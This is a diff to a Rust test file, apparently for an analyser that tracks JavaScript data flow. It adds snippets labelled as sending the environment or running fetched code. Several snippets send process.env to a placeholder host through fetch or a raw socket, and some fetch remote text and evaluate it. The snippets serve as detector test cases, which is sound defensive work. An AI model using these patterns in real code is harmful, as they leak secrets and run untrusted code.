@@ -135,6 +135,16 @@ fn data_is_followed_from_where_it_is_read_to_where_it_leaves() {
             "function send(b) { fetch(u, { body: b }) } function all() { return process.env } send(all())",
             SendsEnvironment,
         ),
+        (
+            "const or = (v, d) => typeof v === 'undefined' ? d : v; const path = or(o.path, '/'); \
+             fetch(u, { body: or(o.env, process.env) })",
+            SendsEnvironment,
+        ),
+        (
+            "const or = (v, d) => typeof v === 'undefined' ? d : v; fetch(u, { body: or(...[o.env, process.env]) })",
+            SendsEnvironment,
+        ),
+        ("require('net').connect(1, h).write(JSON.stringify(process.env))", SendsEnvironment),
         ("fetch(u).then(r => r.text()).then(t => eval(t))", RunsFetched),
         (
             "require('https').get(u, res => { let d = ''; res.on('data', c => d += c); res.on('end', () => { new Function(d)() }) })",
@@ -161,6 +171,12 @@ fn data_is_followed_from_where_it_is_read_to_where_it_leaves() {
             SendsEnvironment,
         ),
         ("const d = fetch(u).then(r => r.json()); console.log(d); eval('1 + 1')", RunsFetched),
+        (
+            "const or = (v, d) => typeof v === 'undefined' ? d : v; const env = or(o.env, process.env); \
+             require('http').get({ path: or(o.path, '/') })",
+            SendsEnvironment,
+        ),
+        ("require('net').connect(process.env, 'localhost')", SendsEnvironment),
     ] {
         hides(code, signal);
     }
